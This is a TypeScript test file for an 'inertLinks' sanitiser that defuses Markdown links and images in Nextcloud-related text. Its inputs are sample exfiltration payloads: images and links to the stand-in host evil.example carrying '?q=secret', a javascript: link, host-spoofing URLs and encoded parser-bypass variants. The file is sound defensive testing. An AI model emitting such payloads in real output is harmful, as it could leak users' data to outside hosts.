import fc from 'fast-check';
import { inertLinks } from './inert-links';

const OWN = new Set(['cloud.example', 'localhost:8090']);

/** As a person sees it. */
const seen = (text: string): string => inertLinks(text, OWN).replaceAll('\u2060', '');

it.each([
  [
    'a link',
    'see [the plan](https://evil.example/?q=secret)',
    'see the plan `https://evil.example/?q=secret`',
  ],
  ['a bare address', 'see https://evil.example/a.', 'see `https://evil.example/a.`'],
  ['an address in angle brackets', 'see <https://evil.example/a>', 'see `https://evil.example/a`'],
  ['an address without a scheme', 'see www.evil.example/a', 'see `www.evil.example/a`'],
  ['a mail address link', '[mail](mailto:eve@evil.example?body=x)', 'mail `mailto:eve@evil.example?body=x`'],
  ['a script', '[x](javascript:alert(1))', 'x `javascript:alert(1`)'],
  ['a link with a title', '[x](https://evil.example "title")', 'x `https://evil.example`'],
  [
    'a host that only begins like ours',
    '[x](https://cloud.example.evil.example/)',
    'x `https://cloud.example.evil.example/`',
  ],
  [
    'our host as a user name',
    '[x](https://cloud.example@evil.example/)',
    'x `https://cloud.example@evil.example/`',
  ],
  ['another port of ours', '[x](https://cloud.example:8443/)', 'x `https://cloud.example:8443/`'],
  ['a target without a host', '[x](//evil.example/a)', 'x `//evil.example/a`'],
  ['an image', 'a ![chart](https://evil.example/?q=secret) b', 'a chart b'],
  ['an image of our own', '![chart](https://cloud.example/x.png)', 'chart'],
  ['an image by reference', '![chart][1]\n\n[1]: https://evil.example/x', 'chart\n\n'],
  ['an HTML image', '<img src="https://evil.example/a">', '`<img src="https://evil.example/a">`'],
  [
    'a link into our own Nextcloud',
    '[the file](https://cloud.example/f/7)',
    'the file https://cloud.example/f/7',
  ],
])('shows %s without one', (_what, text, inert) => {
  expect(seen(text)).toBe(inert);
});

it.each([
  'plain text, 3 < 4, a [note] in brackets, R&D, C:\\Temp, bob@cloud.example',
  'see https://cloud.example/f/12 and (http://localhost:8090/f/7)',
  '`https://evil.example` stands in code already',
  '```\n![x](https://evil.example)\n```',
])('shows as it is: %j', (text) => {
  expect(seen(text)).toBe(text);
});

it('keeps an address of our own Nextcloud whole, so that clients link it', () => {
  expect(inertLinks('see https://cloud.example/f/12 now', OWN)).toBe('see https://cloud.example/f/12 now');
});

/** Without one of these no Markdown parser makes a link or an image, whatever stands around it. */
const WHAT_PARSERS_NEED =
  /!\[|\][(:]|<[a-z/!?]|\\[^\u2060]|&[#a-z]|@[^\u2060\s]|:\/\/|www\.|(?:mailto|javascript|data|tel|xmpp):[^\u2060]/i;

const withoutOwn = (text: string): string =>
  text.replace(/https:\/\/cloud\.example(?:\/[a-z0-9/._~%?=#+-]*)?(?=\s|$|[)>])/g, '');

it.each([
  '\\`![x](https://evil.example/i.png?q=secret)\\`',
  'a\\`b ![x](https://evil.example) c`d`',
  '~~~\n```\n~~~\n![x](https://evil.example)\n```',
  '<div>\n```\n\n![x](https://evil.example)\n\n```',
  '[a](https://cloud.example\\@evil.example/)',
  'https\\://evil.example https:&sol;&sol;evil.example https&colon;//evil.example',
  '`<https://evil.example/a> x` ``<https://evil.example/a>',
  'www\\.evil.example w&#119;w.evil.example \\https://evil.example',
  '<img src=\n\nhttps://evil.example>',
  '<http:evil.example/x?s>',
  '<a title="`" href="https://evil.example">',
  '[![x](https://evil.example/a)](https://evil.example/b)',
  'https://cloud.example.evil.example/ https://cloud.example@evil.example/ xhttps://cloud.example/f',
])('leaves nothing that a parser could take for a link or an image in %j', (text) => {
  expect(withoutOwn(inertLinks(text, OWN))).not.toMatch(WHAT_PARSERS_NEED);
});

it('leaves nothing that a parser could take for a link or an image, whatever the text', () => {
  const piece = fc.constantFrom(
    ...['https://evil.example/a', 'http://evil.example', 'www.evil.example', 'https://cloud.example/f', '@'],
    ...[
      '![',
      '[',
      ']',
      '](',
      '(',
      ')',
      ']:',
      '`',
      '```',
      '~~~',
      '\n',
      ' ',
      '<',
      '>',
      'x',
      '[1]: ',
      '<img src=',
    ],
    ...['\\', '&', '&sol;', ':', '//', '.', 'www', 'mailto:', '<!--'],
  );
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 14 }), (pieces) => {
      expect(withoutOwn(inertLinks(pieces.join(''), OWN))).not.toMatch(WHAT_PARSERS_NEED);
    }),
    { numRuns: 5_000 },
  );
});
